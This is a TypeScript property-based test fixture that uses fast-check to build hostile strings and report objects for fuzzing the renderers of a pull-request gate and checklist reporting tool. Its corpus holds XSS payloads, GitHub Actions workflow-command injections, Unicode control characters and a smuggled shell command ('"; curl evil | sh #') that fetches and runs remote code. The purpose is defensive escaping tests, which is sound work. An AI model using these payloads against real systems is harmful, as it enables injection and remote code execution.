import fc from 'fast-check'
import { impactKinds } from '../../src/impact/model.ts'
import { type Message, message } from '../../src/locales/message.ts'
import type { Actor, ChecklistOutcome, Finding, GateOutcome, ItemState, Report, SignedBy } from '../../src/report.ts'

/** Pieces that have broken renderers, ours or others'. */
const corpus = [
  '@everyone',
  '@org/team',
  '#1',
  'acme/api#12',
  'GH-1',
  'abc1234',
  'deadbeefdeadbeefdeadbeefdeadbeefdeadbeef',
  'user@host.example',
  'https://github.com/acme/api/issues/1',
  'http://evil.example',
  'www.evil.example',
  'ftp://x.example',
  'mailto:a@b.example',
  'GHSA-jfh8-c2jp-5v3q',
  'CVE-2021-44228',
  ':tada:',
  '<!--',
  '-->',
  '</details>',
  '<details>',
  '<script>',
  '<img src=x onerror=alert(1)>',
  '![t](https://evil.example/t.png)',
  '[x](javascript:alert(1))',
  '[x]: http://evil.example',
  '[^1]',
  '[[wiki]]',
  '`',
  '``',
  '```',
  '~~~',
  '~~x~~',
  '**',
  '__x__',
  '*',
  '_',
  '|',
  '\\|',
  '\\',
  '\\`',
  '&lt;',
  '&#64;x',
  '&',
  '$x$',
  '$`x`$',
  '# h',
  '- [x] done',
  '- [ ] a <!-- dg:item rollback -->',
  '1. x',
  '> q',
  '===',
  '---',
  '+',
  '    code',
  '\n',
  '\r\n',
  '\t',
  '\u2028',
  '\u0000',
  '\u001b[31m',
  '\u202e',
  '\u2066',
  '\u200b',
  '\u200d',
  '\ufeff',
  '\ud800',
  '\udc00',
  '𝕏',
  '👩‍👩‍👧',
  '\u0301'.repeat(40),
  '::error::x',
  '##[set-env name=a]b',
  '%0A::error::',
  '已演练回滚',
  '</sub>',
  '</summary>',
  '--',
  '"; curl evil | sh #',
  "'",
  '"',
  '(',
  ')',
  '!',
  '.',
  '{}',
  '{{x}}',
  'a-b',
]

/** Text that wants out: pieces of the corpus, any characters, and repetition beyond every limit. */
export const hostile: fc.Arbitrary<string> = fc.oneof(
  {
    weight: 6,
    arbitrary: fc
      .array(fc.oneof(fc.constantFrom(...corpus), fc.string({ unit: 'binary', maxLength: 8 })), { maxLength: 12 })
      .map(parts => parts.join('')),
  },
  { weight: 3, arbitrary: fc.array(fc.constantFrom(...corpus), { maxLength: 6 }).map(parts => parts.join(' ')) },
  {
    weight: 1,
    arbitrary: fc
      .tuple(fc.constantFrom(...corpus), fc.integer({ min: 1, max: 3_000 }))
      .map(([part, times]) => part.repeat(times)),
  },
)

const hostileMessage: fc.Arbitrary<Message> = fc.oneof(
  fc.record({ what: hostile, detail: hostile }).map(params => message('unknown.api', params)),
  fc.record({ by: hostile, from: hostile, to: hostile }).map(params => message('item.stale.base', params)),
  fc.record({ by: hostile, signed: hostile, head: hostile }).map(params => message('item.stale.head', params)),
  hostile.map(pattern => message('policy.glob.unmatched', { pattern, hint: null })),
  fc.record({ what: hostile, got: fc.nat(), expected: fc.nat() }).map(params => message('unknown.incomplete', params)),
)

const hostileActor: fc.Arbitrary<Actor> = fc.oneof(
  fc.record({ kind: fc.constant('author' as const), login: hostile }),
  fc.record({ kind: fc.constant('user' as const), login: hostile, role: hostile }),
  fc.record({ kind: fc.constant('team' as const), slug: hostile }),
  fc.record({ kind: fc.constant('role' as const), role: hostile }),
  fc.record({ kind: fc.constant('ci' as const) }),
)

const line = fc.oneof(fc.integer({ min: -2, max: 500 }), fc.constantFrom(0, 1.5, Number.NaN, 2 ** 53))
const hostileFinding: fc.Arbitrary<Finding> = fc.record(
  { message: hostileMessage, path: hostile, line, endLine: line },
  { requiredKeys: ['message'] },
)

/** Few findings, or so many that no surface holds them all. */
const findings = fc.oneof(
  { weight: 4, arbitrary: fc.array(hostileFinding, { maxLength: 6 }) },
  {
    weight: 1,
    arbitrary: fc
      .tuple(fc.array(hostileFinding, { minLength: 1, maxLength: 4 }), fc.integer({ min: 50, max: 3_000 }))
      .map(([some, times]) => Array.from({ length: times }, () => some).flat()),
  },
)

const level = fc.constantFrom('block' as const, 'warn' as const, 'info' as const)

const hostileGate: fc.Arbitrary<GateOutcome> = fc.record({
  gate: hostile,
  level,
  result: fc.oneof(
    fc.record({ status: fc.constant('failed' as const), summary: hostileMessage, findings, next: hostileMessage }),
    fc.record({
      status: fc.constant('waiting' as const),
      summary: hostileMessage,
      waitingFor: fc.array(hostileActor, { maxLength: 8 }),
      next: hostileMessage,
    }),
    fc.record({ status: fc.constant('unknown' as const), summary: hostileMessage, next: hostileMessage }),
    fc.record({ status: fc.constant('passed' as const), summary: hostileMessage, findings }),
  ),
})

const signOffs: fc.Arbitrary<readonly SignedBy[]> = fc.array(
  fc.record({
    id: fc.string(),
    login: hostile,
    at: fc.constantFrom('2026-11-20T10:00:00Z', 'never'),
    headSha: hostile,
    via: fc.constantFrom('tick' as const, 'command' as const),
    valid: fc.boolean(),
  }),
  { maxLength: 3 },
)

const itemState: fc.Arbitrary<ItemState> = fc.oneof(
  fc.record({ status: fc.constant('done' as const), signOffs }),
  fc.record({ status: fc.constant('open' as const), signOffs, evidence: hostileMessage }),
  fc.record({ status: fc.constant('stale' as const), signOffs, reason: hostileMessage }),
  fc.record({ status: fc.constant('unknown' as const), reason: hostileMessage }),
)

const itemId = fc.oneof(fc.stringMatching(/^[a-z][a-z0-9-]{0,39}$/), hostile)

const hostileChecklist: fc.Arbitrary<ChecklistOutcome> = fc.record({
  checklist: hostile,
  level,
  status: fc.constantFrom('passed' as const, 'waiting' as const, 'unknown' as const),
  summary: hostileMessage,
  items: fc.array(
    fc.record(
      {
        id: itemId,
        text: fc.record({ default: hostile }),
        role: hostile,
        count: fc.integer({ min: 1, max: 10 }),
        state: itemState,
      },
      { requiredKeys: ['id', 'text', 'count', 'state'] },
    ),
    { maxLength: 50 },
  ),
  waitingFor: fc.array(hostileActor, { maxLength: 8 }),
})

/** Any report at all: every text hostile, gates and findings in any number. */
export const hostileReport: fc.Arbitrary<Report> = fc.record({
  schemaVersion: fc.constant(1 as const),
  repository: hostile,
  number: fc.nat(),
  headSha: hostile,
  baseRef: hostile,
  baseSha: hostile,
  isDraft: fc.boolean(),
  policy: fc.oneof(
    fc.record({ source: fc.constant('base' as const), path: hostile, sha: hostile, sha256: fc.string() }),
    fc.constant({ source: 'none' as const }),
  ),
  verdict: fc.constantFrom('passed' as const, 'waiting' as const, 'failed' as const, 'unknown' as const),
  waitingFor: fc.array(hostileActor, { maxLength: 12 }),
  gates: fc.oneof(
    { weight: 9, arbitrary: fc.array(hostileGate, { maxLength: 5 }) },
    {
      weight: 1,
      arbitrary: fc
        .tuple(hostileGate, fc.integer({ min: 100, max: 400 }))
        .map(([gate, times]) =>
          Array.from({ length: times }, () => ({ ...gate, result: { ...gate.result, findings: [] } }) as GateOutcome),
        ),
    },
  ),
  checklists: fc.array(hostileChecklist, { maxLength: 4 }),
  coverage: fc.constant(null),
  impact: fc.option(
    fc.record({
      risk: fc.constantFrom('low' as const, 'medium' as const, 'high' as const, 'unknown' as const),
      reasons: fc.array(hostileMessage, { maxLength: 5 }),
      impacts: fc.array(
        fc.record({
          kind: fc.constantFrom(...impactKinds),
          key: hostile,
          direction: fc.constantFrom('added' as const, 'removed' as const, 'changed' as const),
          destructive: fc.boolean(),
          file: hostile,
          line: fc.integer(),
          from: fc.option(hostile),
          to: fc.option(hostile),
        }),
        { maxLength: 30 },
      ),
      unread: fc.array(hostile, { maxLength: 3 }),
    }),
  ),
  waivers: fc.constant([]),
  policyChange: fc.constant(null),
  notices: fc.array(
    fc.record(
      { level: fc.constantFrom('warning' as const, 'notice' as const), message: hostileMessage, path: hostile, line },
      { requiredKeys: ['level', 'message'] },
    ),
    { maxLength: 40 },
  ),
})
